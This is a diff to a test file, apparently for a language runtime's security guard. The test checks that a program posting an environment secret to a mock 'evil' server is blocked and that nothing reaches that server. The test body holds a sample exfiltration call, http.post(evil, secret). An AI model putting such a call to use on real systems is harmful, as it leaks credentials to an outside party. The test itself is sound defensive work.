@@ -280,13 +280,17 @@ end
 test("a fallible call refused by a guard fails, and otherwise handles the failure like any other", async () => {
   const socket = await freePort();
   const before = evil.heard.length;
-  const body = `let status be (http.post(evil, secret) otherwise
+  const handled = (print: string) => `let status be (http.post(evil, secret) otherwise
   when _ then Response(status: -1, headers: {}, body: "", bytes: "".to_bytes())
 end).status
-console.print("handled {status}")`;
-  const ran = await startProgram(work, PROGRAM("environment", body, socket), { env: { SECRET } }).done;
+${print}`;
+  // The handler ran, and the program goes on past it; the value it gave is a decision on what the call carried.
+  const ran = await startProgram(work, PROGRAM("environment", handled('console.print("handled")'), socket), { env: { SECRET } }).done;
   assert.equal(ran.status, 0, ran.stderr);
-  assert.equal(ran.stdout, "handled -1\n");
+  assert.equal(ran.stdout, "handled\n");
+  const shown = await startProgram(work, PROGRAM("environment", handled('console.print("handled {status}")'), await freePort()), { env: { SECRET } }).done;
+  assert.equal(shown.stdout, "");
+  assert.match(shown.stderr, /E-RT-GUARD/);
   assert.equal(evil.heard.length, before);
 });
 
